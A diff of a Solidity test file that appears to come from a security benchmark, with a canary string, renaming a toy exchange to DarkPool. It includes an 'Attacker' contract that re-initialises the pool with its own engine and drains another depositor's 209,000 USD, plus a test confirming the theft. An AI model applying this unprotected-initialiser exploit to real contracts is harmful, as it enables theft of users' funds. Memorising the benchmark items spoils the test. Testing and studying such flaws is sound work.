@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: Apache-2.0
 pragma solidity 0.8.30;
 
-import "./DuskCounter.sol";
+import "./DarkPool.sol";
 
 // assay-canary-47d216c3-63b4-4aa3-a9e5-1f041c86b227
 
@@ -12,7 +12,7 @@ interface Vm {
     function expectRevert(bytes calldata reason) external;
 }
 
-contract Token is IERC20 {
+contract Token {
     address private maker = msg.sender;
     bool private asleep;
 
@@ -54,63 +54,55 @@ contract Token is IERC20 {
 
 contract Proof {
     Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
-    address internal constant ADA = address(0xADA);
-    address internal constant BRAM = address(0xB4A3);
-    address internal constant HOUSE = address(0x40);
+    address internal constant ANA = address(0xA9A);
+    address internal constant BEN = address(0xB4A3);
+    address internal constant TREASURY = address(0x40);
 
     Token internal usd;
-    Token internal ore;
-    DuskCounter internal counter;
-    Attacker internal thief;
+    Token internal metal;
+    DarkPool internal pool;
+    Attacker internal mallory;
 
     function setUp() public {
         vm.roll(1000);
         usd = new Token();
-        ore = new Token();
-        counter = new DuskCounter();
-        counter.wire(address(new MatchEngine()), HOUSE);
-        _deposit(usd, ADA, 209_000e6);
-        _deposit(ore, BRAM, 50e18);
-        thief = new Attacker(counter, usd);
+        metal = new Token();
+        pool = new DarkPool();
+        pool.initialise(address(new MatchingEngine()), TREASURY);
+        _deposit(usd, ANA, 209_000e6);
+        _deposit(metal, BEN, 50e18);
+        mallory = new Attacker(pool, usd);
     }
 
     function _deposit(Token t, address who, uint256 amount) internal {
         t.mint(who, amount);
         vm.prank(who);
-        t.approve(address(counter), amount);
+        t.approve(address(pool), amount);
         vm.prank(who);
-        counter.deposit(address(t), amount);
+        pool.deposit(address(t), amount);
     }
 
     function test_Regular() public {
-        Order memory a = Order(ADA, address(usd), address(ore), 100_000e6, 40e18, "a");
-        Order memory b = Order(BRAM, address(ore), address(usd), 40e18, 99_000e6, "b");
-        vm.prank(ADA);
-        bytes32 id = counter.place(a);
-        vm.prank(BRAM);
-        counter.place(b);
-        (bool ok, ) = address(counter).call(abi.encodeCall(DuskCounter.matchOrders, (a, b)));
-        require(!ok, "in the same block");
+        Order memory a = Order(ANA, address(usd), address(metal), 100_000e6, 40e18, "a");
+        Order memory b = Order(BEN, address(metal), address(usd), 40e18, 99_000e6, "b");
+        vm.prank(ANA);
+        bytes32 id = pool.placeOrder(a);
+        vm.prank(BEN);
+        pool.placeOrder(b);
         vm.roll(1001);
-        counter.matchOrders(a, b);
-        require(counter.placedIn(id) == 0, "done");
-        require(counter.holdings(address(ore), ADA) == 39.988e18, "ore");
-        require(counter.holdings(address(usd), BRAM) == 99_970e6, "dollars");
-        vm.prank(HOUSE);
-        counter.withdraw(address(usd), 30e6);
-        vm.prank(BRAM);
-        counter.withdraw(address(usd), 99_970e6);
-        require(usd.balanceOf(BRAM) == 99_970e6, "out");
-        vm.prank(BRAM);
-        (ok, ) = address(counter).call(abi.encodeCall(DuskCounter.withdraw, (address(usd), 1)));
-        require(!ok, "more than held");
-        vm.prank(BRAM);
-        (ok, ) = address(counter).call(abi.encodeCall(DuskCounter.place, (a)));
-        require(!ok, "the order of another");
-        vm.prank(ADA);
-        counter.place(a);
-        vm.prank(ADA);
-        counter.cancel(a);
+        pool.matchOrders(a, b);
+        require(pool.placedIn(id) == 0, "done");
+        require(pool.balances(address(metal), ANA) == 39.988e18, "metal");
+        require(pool.balances(address(usd), BEN) == 99_970e6, "dollars");
+        vm.prank(TREASURY);
+        pool.withdraw(address(usd), 30e6);
+        vm.prank(BEN);
+        pool.withdraw(address(usd), 99_970e6);
+        require(usd.balanceOf(BEN) == 99_970e6, "out");
+        vm.prank(ANA);
+        pool.placeOrder(a);
+        vm.prank(ANA);
+        pool.cancelOrder(a);
     }
 
     // What is refused, each from the state after setUp().
@@ -121,99 +113,108 @@ contract Proof {
         vm.expectRevert(why);
     }
 
+    function refuses(address who, bytes memory why) internal {
+        vm.prank(who);
+        vm.expectRevert(why);
+    }
+
     /// Orders that are placed, fit one another, and are their owners'.
     function test_RefusesOrders() public {
-        Order memory a = Order(ADA, address(usd), address(ore), 100e6, 4e18, "a");
-        Order memory b = Order(BRAM, address(ore), address(usd), 4e18, 100e6, "b");
-        vm.prank(ADA);
-        bytes32 idA = counter.place(a);
-        bytes memory notA = abi.encodeWithSelector(MatchEngine.NotPlaced.selector, idA);
+        Order memory a = Order(ANA, address(usd), address(metal), 100e6, 4e18, "a");
+        Order memory b = Order(BEN, address(metal), address(usd), 4e18, 100e6, "b");
+        vm.prank(ANA);
+        bytes32 idA = pool.placeOrder(a);
+        bytes memory notA = abi.encodeWithSelector(MatchingEngine.OrderNotReady.selector, idA);
         vm.expectRevert(notA);
-        counter.matchOrders(a, b);
+        pool.matchOrders(a, b);
         vm.roll(1001);
-        vm.prank(BRAM);
-        bytes32 idB = counter.place(b);
-        bytes memory notB = abi.encodeWithSelector(MatchEngine.NotPlaced.selector, idB);
+        vm.prank(BEN);
+        bytes32 idB = pool.placeOrder(b);
+        bytes memory notB = abi.encodeWithSelector(MatchingEngine.OrderNotReady.selector, idB);
         vm.expectRevert(notB);
-        counter.matchOrders(a, b);
+        pool.matchOrders(a, b);
         vm.roll(1002);
-        refuses(BRAM, DuskCounter.AlreadyPlaced.selector);
-        counter.place(b);
-        refuses(BRAM, DuskCounter.NotOwner.selector);
-        counter.cancel(a);
-        vm.prank(ADA);
-        counter.cancel(a);
+        refuses(BEN, abi.encodeWithSelector(DarkPool.AlreadyPlaced.selector, idB));
+        pool.placeOrder(b);
+        refuses(BEN, abi.encodeWithSelector(DarkPool.NotOwner.selector, BEN));
+        pool.placeOrder(a);
+        refuses(BEN, abi.encodeWithSelector(DarkPool.NotOwner.selector, BEN));
+        pool.cancelOrder(a);
+        vm.prank(ANA);
+        pool.cancelOrder(a);
         vm.expectRevert(notA);
-        counter.matchOrders(a, b);
-        vm.prank(ADA);
-        counter.place(a);
-        vm.prank(BRAM);
-        counter.cancel(b);
+        pool.matchOrders(a, b);
+        vm.prank(ANA);
+        pool.placeOrder(a);
+        vm.prank(BEN);
+        pool.cancelOrder(b);
         vm.roll(1003);
         vm.expectRevert(notB);
-        counter.matchOrders(a, b);
+        pool.matchOrders(a, b);
     }
 
     /// What does not fit.
     function test_RefusesMisfits() public {
-        Order memory a = Order(ADA, address(usd), address(ore), 100e6, 4e18, "a");
-        _refusesMatch(a, Order(BRAM, address(ore), address(ore), 4e18, 0, "b"));
-        _refusesMatch(a, Order(BRAM, address(usd), address(usd), 4e18, 100e6, "c"));
-        _refusesMatch(a, Order(BRAM, address(ore), address(usd), 4e18, 100e6 + 1, "d"));
-        _refusesMatch(a, Order(BRAM, address(ore), address(usd), 4e18 - 1, 100e6, "e"));
+        Order memory a = Order(ANA, address(usd), address(metal), 100e6, 4e18, "a");
+        bytes memory why = abi.encodeWithSelector(MatchingEngine.TokensDoNotFit.selector, usd, metal);
+        _refusesMatch(a, Order(BEN, address(metal), address(metal), 4e18, 0, "b"), why);
+        _refusesMatch(a, Order(BEN, address(usd), address(usd), 4e18, 100e6, "c"), why);
+        why = abi.encodeWithSelector(MatchingEngine.AmountTooSmall.selector, 100e6, 100e6 + 1);
+        _refusesMatch(a, Order(BEN, address(metal), address(usd), 4e18, 100e6 + 1, "d"), why);
+        why = abi.encodeWithSelector(MatchingEngine.AmountTooSmall.selector, 4e18 - 1, 4e18);
+        _refusesMatch(a, Order(BEN, address(metal), address(usd), 4e18 - 1, 100e6, "e"), why);
     }
 
-    function _refusesMatch(Order memory a, Order memory b) private {
-        if (counter.placedIn(keccak256(abi.encode(a))) == 0) {
-            vm.prank(ADA);
-            (bool placed, ) = address(counter).call(abi.encodeCall(DuskCounter.place, (a)));
-            placed;
+    function _refusesMatch(Order memory a, Order memory b, bytes memory why) private {
+        if (pool.placedIn(keccak256(abi.encode(a))) == 0) {
+            vm.prank(ANA);
+            pool.placeOrder(a);
         }
-        vm.prank(BRAM);
-        counter.place(b);
+        vm.prank(BEN);
+        pool.placeOrder(b);
         vm.roll(block.number + 1);
-        vm.expectRevert(MatchEngine.NoFit.selector);
-        counter.matchOrders(a, b);
+        vm.expectRevert(why);
+        pool.matchOrders(a, b);
     }
 
-    /// Wirings that are none, and tokens that say no.
-    function test_RefusesWirings() public {
-        DuskCounter fresh = new DuskCounter();
-        vm.expectRevert(DuskCounter.NotAnEngine.selector);
-        fresh.wire(ADA, HOUSE);
-        address engine = counter.engine();
-        vm.expectRevert(DuskCounter.NoTreasury.selector);
-        fresh.wire(engine, address(0));
-        vm.expectRevert(DuskCounter.NotWired.selector);
+    /// Setups that are none, and tokens that say no.
+    function test_RefusesSetups() public {
+        DarkPool fresh = new DarkPool();
+        vm.expectRevert(abi.encodeWithSelector(DarkPool.NotAnEngine.selector, ANA));
+        fresh.initialise(ANA, TREASURY);
+        address engine = pool.engine();
+        vm.expectRevert(DarkPool.ZeroTreasury.selector);
+        fresh.initialise(engine, address(0));
+        vm.expectRevert(DarkPool.NotInitialised.selector);
         fresh.deposit(address(usd), 0);
-        Order memory a = Order(ADA, address(usd), address(ore), 100e6, 4e18, "a");
-        refuses(ADA, DuskCounter.NotWired.selector);
-        fresh.place(a);
-        vm.expectRevert(DuskCounter.NotWired.selector);
+        Order memory a = Order(ANA, address(usd), address(metal), 100e6, 4e18, "a");
+        refuses(ANA, DarkPool.NotInitialised.selector);
+        fresh.placeOrder(a);
+        vm.expectRevert(DarkPool.NotInitialised.selector);
         fresh.matchOrders(a, a);
         usd.sleep(true);
-        vm.expectRevert(DuskCounter.TransferFailed.selector);
-        counter.deposit(address(usd), 0);
-        vm.expectRevert(DuskCounter.TransferFailed.selector);
-        counter.withdraw(address(usd), 0);
+        vm.expectRevert(abi.encodeWithSelector(SafeERC20.SafeERC20FailedOperation.selector, usd));
+        pool.deposit(address(usd), 0);
+        vm.expectRevert(abi.encodeWithSelector(SafeERC20.SafeERC20FailedOperation.selector, usd));
+        pool.withdraw(address(usd), 0);
     }
 
     function exploit() public {
-        thief.run();
+        mallory.run();
     }
 
     function test_Exploit() public {
-        uint256 before = usd.balanceOf(address(thief));
+        uint256 before = usd.balanceOf(address(mallory));
         exploit();
-        require(usd.balanceOf(address(thief)) >= before + 209_000e6, "nothing gained");
+        require(usd.balanceOf(address(mallory)) >= before + 209_000e6, "nothing gained");
     }
 
     function target() public view returns (address) {
-        return address(counter);
+        return address(pool);
     }
 
     function attacker() public view returns (address) {
-        return address(thief);
+        return address(mallory);
     }
 
     function token() public view returns (address) {
@@ -224,27 +225,27 @@ contract Proof {
 /// Sends everything to the one named as owner.
 contract OwnEngine {
     function matchOrders(Order calldata left, Order calldata) external {
-        Token t = Token(left.sell);
+        Token t = Token(left.sellToken);
         t.transfer(left.owner, t.balanceOf(address(this)));
     }
 }
 
-/// Wires the counter once more.
+/// Initialises the pool once more.
 contract Attacker {
-    DuskCounter internal counter;
+    DarkPool internal pool;
     Token internal usd;
     OwnEngine internal own;
 
-    constructor(DuskCounter counter_, Token usd_) {
-        counter = counter_;
+    constructor(DarkPool pool_, Token usd_) {
+        pool = pool_;
         usd = usd_;
         own = new OwnEngine();
     }
 
     function run() external {
-        counter.wire(address(own), address(this));
+        pool.initialise(address(own), address(this));
         Order memory o;
-        (o.owner, o.sell) = (address(this), address(usd));
-        counter.matchOrders(o, o);
+        (o.owner, o.sellToken) = (address(this), address(usd));
+        pool.matchOrders(o, o);
     }
 }
